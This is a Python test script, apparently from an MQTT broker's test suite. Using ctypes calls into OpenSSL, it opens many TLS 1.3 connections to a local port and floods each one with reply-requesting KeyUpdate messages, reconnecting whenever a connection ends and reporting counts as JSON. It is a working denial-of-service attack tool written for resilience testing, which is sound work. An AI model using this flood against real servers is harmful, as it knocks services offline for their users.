"""Attacker that completes TLS 1.3 handshakes and sends KeyUpdate messages then, each of which asks for one.

    python -m tests.attack.key_updates PORT CONNECTIONS

As programs/attack.c, it opens what ended again, answers each line on stdin with its counts, and exits at the end of
stdin. Python's `ssl` has no call for this message (RFC 8446 4.6.3): these are
OpenSSL's own, from the library that Mosquitto needs too.
"""

import contextlib
import ctypes
import json
import select
import socket
import sys
import time
from collections import Counter
from collections.abc import Iterator
from ctypes import c_int, c_long, c_void_p
from ctypes.util import find_library
from threading import Thread
from typing import Any, Final

UPDATES: Final = 500  # that are made at a time
PATIENCE: Final = 5.0  # seconds, for the handshake
PAUSE: Final = 0.01  # seconds, before the next try
REQUESTED: Final = 1  # SSL_KEY_UPDATE_REQUESTED
SET_MIN_VERSION: Final = 123  # SSL_CTRL_SET_MIN_PROTO_VERSION
TLS_1_3: Final = 0x0304
PIECE: Final = 65_536

FUNCTIONS: Final = {
    "TLS_client_method": (c_void_p,),
    "SSL_CTX_new": (c_void_p, c_void_p),
    "SSL_CTX_ctrl": (c_long, c_void_p, c_int, c_long, c_void_p),
    "SSL_new": (c_void_p, c_void_p),
    "SSL_free": (None, c_void_p),
    "SSL_set_bio": (None, c_void_p, c_void_p, c_void_p),
    "SSL_set_connect_state": (None, c_void_p),
    "SSL_do_handshake": (c_int, c_void_p),
    "SSL_key_update": (c_int, c_void_p, c_int),
    "BIO_s_mem": (c_void_p,),
    "BIO_new": (c_void_p, c_void_p),
    "BIO_read": (c_int, c_void_p, c_void_p, c_int),
    "BIO_write": (c_int, c_void_p, c_void_p, c_int),
}


def _library() -> Any:
    """Return OpenSSL, with the types of what is called."""
    library = ctypes.CDLL(find_library("ssl"))
    for name, (result, *arguments) in FUNCTIONS.items():
        function = getattr(library, name)
        function.restype, function.argtypes = result, arguments
    return library


OPENSSL: Final = _library()


class Session:
    """A client's side of TLS, without a socket."""

    def __init__(self, context: int) -> None:
        self._incoming, self._outgoing = (OPENSSL.BIO_new(OPENSSL.BIO_s_mem()) for _ in range(2))
        self._session = OPENSSL.SSL_new(context)
        OPENSSL.SSL_set_bio(self._session, self._incoming, self._outgoing)
        OPENSSL.SSL_set_connect_state(self._session)

    def take(self, data: bytes) -> None:
        OPENSSL.BIO_write(self._incoming, data, len(data))

    def shake_hands(self) -> bool:
        """Go on with the handshake; return whether it is completed."""
        return bool(OPENSSL.SSL_do_handshake(self._session) == 1)

    def update_key(self) -> None:
        OPENSSL.SSL_key_update(self._session, REQUESTED)
        OPENSSL.SSL_do_handshake(self._session)

    def output(self) -> bytes:
        """Return what is to be sent."""
        return b"".join(iter(self._read, b""))

    def close(self) -> None:
        OPENSSL.SSL_free(self._session)

    def _read(self) -> bytes:
        room = ctypes.create_string_buffer(PIECE)
        size = OPENSSL.BIO_read(self._outgoing, room, PIECE)
        return room.raw[: max(0, size)]


@contextlib.contextmanager
def _shaken(context: int, port: int) -> Iterator[tuple[socket.socket, Session]]:
    """Yield a connection and its session after the handshake; raise OSError."""
    session = Session(context)
    try:
        with socket.create_connection(("127.0.0.1", port), PATIENCE) as connection:
            while not session.shake_hands():
                connection.sendall(session.output())
                data = connection.recv(PIECE)
                if not data:
                    raise ConnectionAbortedError
                session.take(data)
            yield connection, session
    finally:
        session.close()


def _attack(context: int, port: int, counts: "Counter[str]") -> None:
    """Attack with one connection after the other."""
    while True:
        outcome = "refused"
        with contextlib.suppress(OSError), _shaken(context, port) as (connection, session):
            outcome = "closed"
            counts.update(("open", "opened"))
            try:
                _flood(connection, session, counts)
            finally:
                counts["open"] -= 1
        counts[outcome] += 1
        time.sleep(PAUSE)


def _flood(connection: socket.socket, session: Session, counts: "Counter[str]") -> None:
    """Send KeyUpdate messages until the connection ends; what is answered is not looked at."""
    waiting = memoryview(session.output())
    connection.setblocking(False)
    while True:
        readable, writable, _ = select.select([connection], [connection], [])
        if readable:
            data = connection.recv(PIECE)
            if not data:
                return
            counts["received"] += len(data)
        if writable:
            if not waiting:
                counts["cycles"] += 1
                for _ in range(UPDATES):
                    session.update_key()
                waiting = memoryview(session.output())
            done = connection.send(waiting)
            counts["sent"] += done
            waiting = waiting[done:]


def main() -> None:
    port, connections = map(int, sys.argv[1:])
    context = OPENSSL.SSL_CTX_new(OPENSSL.TLS_client_method())
    OPENSSL.SSL_CTX_ctrl(context, SET_MIN_VERSION, TLS_1_3, None)
    all_counts = [Counter[str]() for _ in range(connections)]
    for counts in all_counts:
        Thread(target=_attack, args=(context, port, counts), daemon=True).start()
    names = ("open", "opened", "closed", "refused", "sent", "received", "cycles")
    for _ in sys.stdin:
        sums = {name: sum(counts[name] for counts in all_counts) for name in names}
        sys.stdout.write(json.dumps(sums) + "\n")
        sys.stdout.flush()


if __name__ == "__main__":
    main()
